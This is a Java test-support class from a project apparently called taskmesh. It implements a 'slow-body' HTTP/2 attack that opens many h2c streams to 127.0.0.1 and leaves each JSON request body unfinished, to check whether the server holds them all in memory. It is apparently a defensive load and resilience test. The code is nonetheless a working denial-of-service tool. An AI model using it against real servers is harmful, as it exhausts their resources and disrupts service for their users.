package io.taskmesh.sidecar.support;

import io.netty.bootstrap.Bootstrap;
import io.netty.buffer.Unpooled;
import io.netty.buffer.UnpooledByteBufAllocator;
import io.netty.channel.Channel;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInboundHandlerAdapter;
import io.netty.channel.ChannelInitializer;
import io.netty.channel.ChannelOption;
import io.netty.channel.EventLoopGroup;
import io.netty.channel.MultiThreadIoEventLoopGroup;
import io.netty.channel.nio.NioIoHandler;
import io.netty.channel.socket.SocketChannel;
import io.netty.channel.socket.nio.NioSocketChannel;
import io.netty.handler.codec.http2.DefaultHttp2DataFrame;
import io.netty.handler.codec.http2.DefaultHttp2Headers;
import io.netty.handler.codec.http2.DefaultHttp2HeadersFrame;
import io.netty.handler.codec.http2.Http2FrameCodecBuilder;
import io.netty.handler.codec.http2.Http2Headers;
import io.netty.handler.codec.http2.Http2HeadersFrame;
import io.netty.handler.codec.http2.Http2MultiplexHandler;
import io.netty.handler.codec.http2.Http2ResetFrame;
import io.netty.handler.codec.http2.Http2StreamChannel;
import io.netty.handler.codec.http2.Http2StreamChannelBootstrap;
import io.netty.util.ReferenceCountUtil;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * The slow-body attack: one h2c connection opening many streams that each send the start of a JSON body and
 * never finish it, so a server that buffers bodies whole holds every one of them. Its own buffers are on the
 * heap, so direct-memory counters measure the server. Runs from a test, or by hand:
 * {@code java -cp <test classpath> io.taskmesh.sidecar.support.SlowBodyAttack <port> <streams> <bodyBytes> <seconds>
 * [connections]}.
 */
public final class SlowBodyAttack implements AutoCloseable {
  private final EventLoopGroup group = new MultiThreadIoEventLoopGroup(1, NioIoHandler.newFactory());
  private final Channel connection;
  private final AtomicInteger opened = new AtomicInteger();
  private final AtomicInteger answered = new AtomicInteger();

  public SlowBodyAttack(int port) {
    connection = new Bootstrap().group(group).channel(NioSocketChannel.class)
        .option(ChannelOption.ALLOCATOR, new UnpooledByteBufAllocator(false))
        .handler(new ChannelInitializer<SocketChannel>() {
          @Override
          protected void initChannel(SocketChannel ch) {
            ch.pipeline().addLast(Http2FrameCodecBuilder.forClient().build());
            ch.pipeline().addLast(new Http2MultiplexHandler(new ChannelInboundHandlerAdapter()));
          }
        })
        .connect("127.0.0.1", port).syncUninterruptibly().channel();
  }

  /** Opens up to {@code streams} streams, each sending {@code bodyBytes} of an unfinished JSON body. */
  public void attack(int streams, String path, int bodyBytes) {
    byte[] start = ("{\"title\": \"" + "x".repeat(Math.max(0, bodyBytes - 12))).getBytes(StandardCharsets.US_ASCII);
    for (int i = 0; i < streams && connection.isActive(); i++) {
      Http2StreamChannel stream;
      try {
        stream = new Http2StreamChannelBootstrap(connection).handler(new Answers()).open().syncUninterruptibly().getNow();
      } catch (Exception connectionClosed) { // Netty rethrows its ClosedChannelException unchecked
        return;
      }
      Http2Headers headers = new DefaultHttp2Headers().method("POST").scheme("http").authority("gateway").path(path);
      headers.set("content-type", "application/json");
      stream.writeAndFlush(new DefaultHttp2HeadersFrame(headers, false)).addListener(sent -> {
        if (sent.isSuccess()) { // not when the client's codec refused it: over the server's concurrent streams
          opened.incrementAndGet();
        }
      });
      stream.writeAndFlush(new DefaultHttp2DataFrame(Unpooled.wrappedBuffer(start), false));
    }
  }

  /** Streams whose headers reached the server (a client's codec sends no more than the server's SETTINGS allow). */
  public int opened() {
    return opened.get();
  }

  /** Streams the server answered or reset: those it refused to hold. */
  public int answered() {
    return answered.get();
  }

  public boolean connected() {
    return connection.isActive();
  }

  @Override
  public void close() {
    connection.close().syncUninterruptibly();
    group.shutdownGracefully(0, 1, TimeUnit.SECONDS).syncUninterruptibly();
  }

  private final class Answers extends ChannelInboundHandlerAdapter {
    private boolean counted;

    @Override
    public void channelRead(ChannelHandlerContext ctx, Object msg) {
      if (!counted && (msg instanceof Http2HeadersFrame || msg instanceof Http2ResetFrame)) {
        counted = true;
        answered.incrementAndGet();
      }
      ReferenceCountUtil.release(msg);
    }
  }

  public static void main(String[] args) throws Exception {
    int port = Integer.parseInt(args[0]);
    int connections = args.length > 4 ? Integer.parseInt(args[4]) : 1;
    java.util.List<SlowBodyAttack> attacks = new java.util.ArrayList<>();
    for (int i = 0; i < connections; i++) {
      SlowBodyAttack attack = new SlowBodyAttack(port);
      attacks.add(attack);
      attack.attack(Integer.parseInt(args[1]), "/api/tasks", Integer.parseInt(args[2]));
    }
    Thread.sleep(TimeUnit.SECONDS.toMillis(Long.parseLong(args[3])));
    System.out.println("connections=" + connections
        + " opened=" + attacks.stream().mapToInt(SlowBodyAttack::opened).sum()
        + " answered=" + attacks.stream().mapToInt(SlowBodyAttack::answered).sum()
        + " connected=" + attacks.stream().filter(SlowBodyAttack::connected).count());
    attacks.forEach(SlowBodyAttack::close);
  }
}
